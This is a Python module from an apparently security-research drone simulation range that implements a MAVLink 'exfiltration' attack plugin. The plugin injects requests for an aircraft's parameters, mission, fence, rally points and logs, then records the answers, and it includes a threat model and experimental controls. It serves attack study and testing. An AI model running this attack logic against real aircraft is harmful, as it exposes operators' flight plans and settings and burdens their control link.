"""Exfiltration: parameters, mission, fence, rally points and logs are requested from the aircraft and read."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Annotated, Final, Literal

from pydantic import BeforeValidator, Field

from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, ThreatModel
from skyrange.attack.mavlink.injection import Injection, Sender, inject, read
from skyrange.attack.on_path import LEARNED, Repetition
from skyrange.codec.mavlink import Message, message_id
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.frames.frame import Frame
from skyrange.contracts.links import Schedule
from skyrange.contracts.mailboxes import Note
from skyrange.contracts.params import Number, items
from skyrange.contracts.scalars import Scalar
from skyrange.core.time import NS_PER_MS, Time, from_seconds

Subject = Literal["parameters", "mission", "fence", "rally", "logs"]
_TYPES: Final = {
    "mission": mav.MAV_MISSION_TYPE_MISSION, "fence": mav.MAV_MISSION_TYPE_FENCE, "rally": mav.MAV_MISSION_TYPE_RALLY
}  # fmt: skip
_SUBJECTS: Final = {number: name for name, number in _TYPES.items()}
_ANSWER_NS: Final = NS_PER_MS
_READ: Final = frozenset((
    mav.MAVLINK_MSG_ID_PARAM_VALUE, mav.MAVLINK_MSG_ID_MISSION_COUNT, mav.MAVLINK_MSG_ID_MISSION_ITEM_INT,
    mav.MAVLINK_MSG_ID_LOG_ENTRY,
))  # fmt: skip


class Exfiltration(Injection):
    """What is requested."""

    what: Annotated[
        tuple[Subject, ...], BeforeValidator(items, json_schema_input_type=list[str]), Field(min_length=1)
    ] = Field(
        default=("parameters", "mission", "logs"),
        description="What to request, in order, of parameters, mission, fence, rally and logs.",
    )
    every_s: Number = Field(default=10.0, ge=1, le=3600, description="Time between two rounds, in seconds.")


@dataclass(slots=True)
class Reader:
    """A source that requests, and keeps what the aircraft answers."""

    sender: Sender
    schedule: Schedule
    what: tuple[Subject, ...]
    period_ns: Time
    learnt: dict[str, dict[str, tuple[float, ...]]] = field(default_factory=dict)
    """By subject: values by parameter; command and place of items by number; size of logs by number."""
    news: list[dict[str, Scalar]] = field(default_factory=list)
    """What was learnt from the frame that is being read."""
    queue: list[Message] = field(default_factory=list)
    counts: dict[int, int] = field(default_factory=dict)
    asked: dict[int, int] = field(default_factory=dict)
    answer_ns: Time | None = None
    clock: Repetition = field(init=False)

    def __post_init__(self) -> None:
        self.clock = Repetition(self.schedule, self.period_ns)

    @property
    def due(self) -> Time | None:
        """When it next sends."""
        times = [time for time in (self.clock.due, self.answer_ns) if time is not None]
        return min(times) if times else None

    def see(self, now: Time, frame: Frame) -> Sequence[Note]:
        """Keep what is told, and the next item to request; notes what is new."""
        self.sender.see(frame)
        if frame.direction != "rev" or message_id(frame.payload) not in _READ or now < self.schedule.start_ns:
            return ()
        message = read(frame.payload)
        if message is None:
            return ()
        name = type(message).msgname
        self._read(now, name, message)
        found, self.news = self.news, []
        vehicle = frame.link.partition(":")[2]
        return [Note(LEARNED, vehicle, data, (frame.id,)) for data in found]

    def _read(self, now: Time, name: str, message: Message) -> None:
        if name == "PARAM_VALUE":
            self._learn("parameters", message.param_id, (message.param_value,))
        elif name == "LOG_ENTRY":
            self._learn("logs", str(message.id), (float(message.size),))
        elif message.mission_type in _SUBJECTS and self.sender.is_answered(message):
            subject, kind = _SUBJECTS[message.mission_type], message.mission_type
            if name == "MISSION_COUNT":
                self.counts[kind] = message.count
                self._request(now, kind, 0)
            else:
                place = (float(message.command), message.x * 1e-7, message.y * 1e-7, message.z)
                self._learn(subject, str(message.seq), place)
                if message.seq == self.asked.get(kind):
                    self._request(now, kind, message.seq + 1)

    def make(self, now: Time) -> Sequence[tuple[Literal["fwd"], bytes]]:
        """The requests that are due."""
        if self.answer_ns is not None and now >= self.answer_ns:
            self.answer_ns = None
        messages, self.queue = self.queue, []
        if self.clock.take(now):
            messages += [self._first_request(subject) for subject in self.what]
        return [("fwd", self.sender.pack(message)) for message in messages]

    def _learn(self, subject: str, name: str, values: tuple[float, ...]) -> None:
        known = self.learnt.setdefault(subject, {})
        if known.get(name) != values:
            known[name] = values
            self.news.append({"what": subject, "name": name, "value": ", ".join(f"{value:g}" for value in values)})

    def _request(self, now: Time, kind: int, seq: int) -> None:
        if seq < self.counts.get(kind, 0) and _SUBJECTS[kind] in self.what:
            target, component = self.sender.target, self.sender.component
            self.asked[kind] = seq
            self.queue.append(mav.MAVLink_mission_request_int_message(target, component, seq, kind))
            self.answer_ns = now + _ANSWER_NS

    def _first_request(self, subject: Subject) -> Message:
        target, component = self.sender.target, self.sender.component
        if subject == "parameters":
            return mav.MAVLink_param_request_list_message(target, component)
        if subject == "logs":
            return mav.MAVLink_log_request_list_message(target, component, 0, 0xFFFF)
        return mav.MAVLink_mission_request_list_message(target, component, _TYPES[subject])


def make(params: Exfiltration, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for aircraft that are not in the scenario."""
    return Attack(taps=inject(params, context, Reader, context.schedule, params.what, from_seconds(params.every_s)))


EXFILTRATE = AttackPlugin(
    Exfiltration,
    make,
    "Requests parameters, mission and logs of the aircraft and reads the answers.",
    technique="T0802",
    counterfactual="mute",
    surface=("gcs", "log", "autopilot"),
    persists="acts",
    effect="the attacker learns parameters and mission, and the answers load the link",
    threat=ThreatModel(
        knowledge="system ids, from any frame",
        position="on the network of the control link, where answers can be heard",
        equipment="a computer with a MAVLink library",
        budget="one frame for a list of parameters or logs, one for each item of a mission",
    ),
    controls=Controls(
        load="none, because the answers are the load; the sham has the same requests without answers",
        content="none, because requests have no content",
        placement="the same requests to another aircraft",
    ),
)
